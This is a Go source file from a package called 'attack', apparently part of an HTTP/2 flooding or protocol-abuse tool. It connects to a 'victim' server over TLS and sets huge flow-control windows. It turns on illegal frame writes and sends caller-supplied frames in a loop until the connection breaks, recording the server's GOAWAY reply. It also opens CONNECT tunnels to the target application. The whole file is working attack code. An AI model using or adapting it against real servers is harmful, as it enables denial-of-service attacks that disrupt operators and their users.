// SPDX-License-Identifier: Apache-2.0

package attack

import (
	"bufio"
	"bytes"
	"context"
	"crypto/tls"
	"errors"
	"fmt"
	"io"
	"net"
	"sync"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// peer is one HTTP/2 connection to the victim, written frame by frame.
type peer struct {
	cfg *Config
	tls *tls.Conn
	w   *bufio.Writer
	fr  *http2.Framer
	enc *hpack.Encoder

	block         bytes.Buffer
	id            uint32 // of the next stream
	frames, bytes int64

	silent  bool
	rounds  int
	windows windows
	over    <-chan struct{}
	mu      sync.Mutex
	away    error
}

// goAway is the victim's last word.
type goAway struct{ code http2.ErrCode }

func (g goAway) Error() string { return "GOAWAY " + g.code.String() }

// batch is how much is collected before it is encrypted and sent.
const batch = 16 << 10

// connect shakes hands and sends the preface, with windows that let the victim send whatever it has.
func connect(ctx context.Context, c net.Conn, cfg *Config, silent bool) (*peer, error) {
	t := tls.Client(c, cfg.TLS)
	hctx, cancel := context.WithTimeout(ctx, 5*time.Second)
	defer cancel()
	if err := t.HandshakeContext(hctx); err != nil {
		return nil, fmt.Errorf("handshake: %w", err)
	}
	p := &peer{cfg: cfg, tls: t, w: bufio.NewWriterSize(t, batch), id: 1, silent: silent, over: ctx.Done()}
	p.windows = windows{conn: 65535, initial: 65535, streams: map[uint32]int{}}
	p.fr = http2.NewFramer(counter{p}, t)
	p.fr.AllowIllegalWrites, p.fr.AllowIllegalReads = true, true
	p.fr.SetReuseFrames()
	p.fr.SetMaxReadFrameSize(1 << 20)
	p.enc = hpack.NewEncoder(&p.block)
	if _, err := io.WriteString(p.w, http2.ClientPreface); err != nil {
		return nil, err
	}
	if err := p.fr.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 1<<31 - 1}); err != nil {
		return nil, err
	}
	return p, errors.Join(p.fr.WriteSettingsAck(), p.fr.WriteWindowUpdate(0, 1<<30))
}

// counter counts what the framer writes.
type counter struct{ p *peer }

func (c counter) Write(b []byte) (int, error) {
	c.p.frames++
	c.p.bytes += int64(len(b))
	return c.p.w.Write(b)
}

// attack repeats frames until they cannot be sent any more, and says why: what the victim said, if it said something.
func (p *peer) attack(ctx context.Context, frames func(*peer) error) error {
	var reader sync.WaitGroup
	if !p.silent {
		reader.Go(p.read)
	}
	var err error
	for err == nil && ctx.Err() == nil {
		err = frames(p)
	}
	if !p.silent {
		// What the victim had to say may be on its way still.
		_ = p.tls.NetConn().SetReadDeadline(time.Now().Add(200 * time.Millisecond))
		reader.Wait()
		p.mu.Lock()
		defer p.mu.Unlock()
		if p.away != nil {
			return p.away
		}
	}
	return err
}

// read takes what the victim sends.
func (p *peer) read() {
	for {
		f, err := p.fr.ReadFrame()
		if err != nil {
			return
		}
		switch f := f.(type) {
		case *http2.WindowUpdateFrame, *http2.SettingsFrame:
			p.windows.give(f)
		case *http2.GoAwayFrame:
			p.mu.Lock()
			p.away = goAway{f.ErrCode}
			p.mu.Unlock()
		}
	}
}

// headers opens a stream and returns its id.
func (p *peer) headers(kv ...string) (uint32, error) {
	p.block.Reset()
	for i := 0; i < len(kv); i += 2 {
		_ = p.enc.WriteField(hpack.HeaderField{Name: kv[i], Value: kv[i+1]})
	}
	id := p.id
	p.id += 2
	return id, p.fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: p.block.Bytes(), EndHeaders: true})
}

// connect asks for a tunnel to the victim's application.
func (p *peer) connect() (uint32, error) {
	return p.headers(":method", "CONNECT", ":authority", p.cfg.Authority)
}

// tunnel is the connection's one tunnel, opened the first time.
func (p *peer) tunnel() (uint32, error) {
	if p.id > 1 {
		return 1, nil
	}
	if _, err := p.connect(); err != nil {
		return 0, err
	}
	return 1, p.w.Flush()
}
